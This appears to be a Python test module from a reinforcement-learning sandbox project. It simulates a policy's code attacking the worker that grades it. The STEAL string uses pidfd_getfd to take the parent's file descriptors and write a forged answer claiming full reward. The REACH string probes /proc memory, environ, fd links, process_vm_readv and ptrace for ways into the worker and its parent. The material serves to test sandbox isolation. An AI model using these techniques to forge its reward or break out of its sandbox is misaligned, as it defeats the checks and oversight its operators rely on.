"""A reward that runs code of the policy's in a subprocess, and what such code tries on its worker.

Imported by name. The code is a program of its own: it has the worker's user and nothing else.
"""

import subprocess
import sys
from typing import Any

STEAL = """
import ctypes, os, sys
sys.path[:0] = {path!r}
import msgspec
from dora_rl import framing
from dora_rl.sandbox.protocol import Answer

libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall({pidfd_open}, os.getppid(), 0)
content = b'{{"reward":1.0,"parts":{{"act":1.0}}}}'
guesses = dict(number=1, content=content, seconds=0.0, spent=False, seal=bytes(32))
fields = {{"type": "Answer", **{{name: guesses[name] for name in Answer.__struct_fields__}}}}
message = framing.frame(msgspec.msgpack.encode(fields))
for number in range(3, 64):
    stolen = libc.syscall({pidfd_getfd}, pidfd, number, 0)
    if stolen >= 0:
        try:
            os.write(stolen, message)
        except OSError:
            pass
"""
# Prints the ways into the worker, and into the process above it, that are open.
REACH = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
own = ctypes.create_string_buffer(8)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(own), 8)
above = int(open(f"/proc/{{os.getppid()}}/stat").read().rpartition(")")[2].split()[1])
for pid in {{os.getppid(), above}} - {{0}}:
    pidfd = libc.syscall({pidfd_open}, pid, 0)
    if any(libc.syscall({pidfd_getfd}, pidfd, n, 0) >= 0 for n in range(64)):
        print("pidfd_getfd")
    for name in ("mem", "environ", "maps"):
        try:
            open(f"/proc/{{pid}}/{{name}}", "rb").read(1)
            print(name)
        except OSError:
            if name == "mem":  # its first byte is nobody's; to open it is enough
                try:
                    os.close(os.open(f"/proc/{{pid}}/mem", os.O_RDWR))
                    print(name)
                except OSError:
                    pass
    for n in range(64):
        try:
            os.readlink(f"/proc/{{pid}}/fd/{{n}}")
            print("fd")
            break
        except OSError:
            pass
    if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) >= 0 or ctypes.get_errno() == 14:
        print("process_vm_readv")
    if libc.ptrace(0x4206, pid, None, None) == 0:
        print("ptrace")
        libc.ptrace(17, pid, None, None)
"""
_PIDFD = {"pidfd_open": 434, "pidfd_getfd": 438}


def run(code: str) -> "subprocess.CompletedProcess[str]":
    """As a coding task does it that knows no sandbox."""
    return subprocess.run(
        [sys.executable, "-c", code.format(path=sys.path, **_PIDFD)],
        capture_output=True,
        text=True,
    )


def steal(response: str) -> float:
    """The policy's code answers in place of the reward, which fails."""
    done = run(STEAL)
    raise AssertionError(f"the code failed its tests: {done.stderr[-200:]}")


def reach(response: str) -> dict[str, Any]:
    done = run(REACH)
    assert done.returncode == 0, done.stderr
    return {"ways": 0.0, **dict.fromkeys(done.stdout.split(), 1.0)}
